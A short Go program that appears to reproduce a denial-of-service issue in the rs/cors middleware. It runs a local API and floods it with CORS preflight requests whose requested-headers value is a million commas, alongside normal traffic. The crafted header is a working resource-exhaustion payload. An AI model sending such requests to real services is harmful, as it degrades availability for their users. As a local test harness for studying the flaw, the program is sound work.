// Corscommas is a JSON API that browsers call from other sites: rs/cors answers their preflight
// requests. Some of those ask for a header list of a megabyte of commas. It keeps 25 MiB of offers.
package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"github.com/rs/cors"
)

type offer struct {
	Title string
	Text  []byte
}

// offers are all there before the first request.
type offers []offer

func loadOffers() offers {
	all := make(offers, 18_000)
	for i := range all {
		all[i] = offer{Title: fmt.Sprintf("offer %d", i), Text: bytes.Repeat([]byte("text "), 280)}
	}
	return all
}

func (o offers) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if err := json.NewEncoder(w).Encode(o[:20]); err != nil {
		log.Print(err)
	}
}

func policy() *cors.Cors {
	return cors.New(cors.Options{
		AllowedOrigins: []string{"https://shop.example"},
		AllowedMethods: []string{"GET", "PUT"},
		AllowedHeaders: []string{"Content-Type", "X-Offer"},
	})
}

func preflight(headers string) []byte {
	return []byte("OPTIONS / HTTP/1.1\r\nHost: api\r\nOrigin: https://shop.example\r\n" +
		"Access-Control-Request-Method: PUT\r\nAccess-Control-Request-Headers: " + headers + "\r\n\r\n")
}

func get() []byte {
	return []byte("GET / HTTP/1.1\r\nHost: api\r\nOrigin: https://shop.example\r\n\r\n")
}

func ask(addr string, request []byte, every time.Duration, end time.Time) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		log.Print(err)
		return
	}
	defer conn.Close()
	answers := bufio.NewReader(conn)
	for time.Now().Before(end) {
		if _, err := conn.Write(request); err != nil {
			log.Print(err)
			return
		}
		resp, err := http.ReadResponse(answers, nil)
		if err != nil {
			log.Print(err)
			return
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		time.Sleep(every)
	}
}

func main() {
	last := flag.Duration("for", 25*time.Second, "how long the load lasts")
	flag.Parse()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		log.Fatal(err)
	}
	go http.Serve(l, policy().Handler(loadOffers()))
	end, addr := time.Now().Add(*last), l.Addr().String()
	hostile := preflight("x-offer" + strings.Repeat(",", 1_000_000))
	var clients sync.WaitGroup
	clients.Go(func() { ask(addr, get(), 5*time.Millisecond, end) })
	clients.Go(func() { ask(addr, preflight("content-type"), 5*time.Millisecond, end) })
	for range 8 {
		clients.Go(func() { ask(addr, hostile, 100*time.Millisecond, end) })
	}
	clients.Wait()
}
